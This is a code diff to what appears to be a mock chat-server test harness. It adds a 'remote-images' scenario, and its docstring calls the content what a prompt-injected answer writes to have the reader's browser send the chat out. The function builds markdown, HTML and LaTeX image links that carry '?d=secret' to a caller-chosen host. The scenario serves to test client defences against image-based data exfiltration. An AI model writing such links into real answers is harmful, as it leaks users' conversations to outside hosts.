@@ -990,7 +990,7 @@ def _artifacts(h: _Handler, body: dict, streaming: bool) -> None:
             artifacts=artifacts, fileAnnotations=annotations)
 
 
-# -- Images (security): image bombs -----------------------------------------------------------------
+# -- Images (security): image bombs and images that would load from other hosts -------------------
 
 
 @functools.cache
@@ -1019,6 +1019,23 @@ def _image_bomb(h: _Handler, body: dict, streaming: bool) -> None:
     # In large chunks: seven bytes at a time, the data URL alone would take minutes on a slow wire.
     _answer(h, flow_id, body, streaming, "Here is the picture.", str(body.get("question", "")), None,
             chunk_size=65536, artifacts=artifacts)
+
+
+def remote_images_answer(base: str) -> str:
+    """What a prompt-injected answer writes to have the reader's browser send ``base`` the chat: images
+    inline (with and without alt text), by reference, as HTML and in LaTeX."""
+    return (
+        f"Here is your summary. ![]({base}/tracker.png?d=secret) ![logo]({base}/inline.png?d=secret)\n\n"
+        f"A chart: ![chart][r]\n\n<img src=\"{base}/html.png?d=secret\">\n\n"
+        f"$\\includegraphics{{{base}/latex.png}}$\n\n[r]: {base}/reference.png?d=secret\n"
+    )
+
+
+def _remote_images(h: _Handler, body: dict, streaming: bool) -> None:
+    """The question is the address the answer's images point at (what an injected prompt would choose)."""
+    base = str(body.get("question", "")).strip()
+    artifacts = [{"type": "png", "data": f"{base}/artifact.png?d=secret"}]
+    _answer(h, "remote-images", body, streaming, remote_images_answer(base), base, None, artifacts=artifacts)
 
 
 _SCENARIOS: dict[str, Callable[[_Handler, dict, bool], None]] = {
@@ -1064,6 +1081,7 @@ _SCENARIOS: dict[str, Callable[[_Handler, dict, bool], None]] = {
     "images-flowise-1.5": _uploads_echo,
     "artifacts": _artifacts,
     "image-bomb": _image_bomb,
+    "remote-images": _remote_images,
 }
 
 
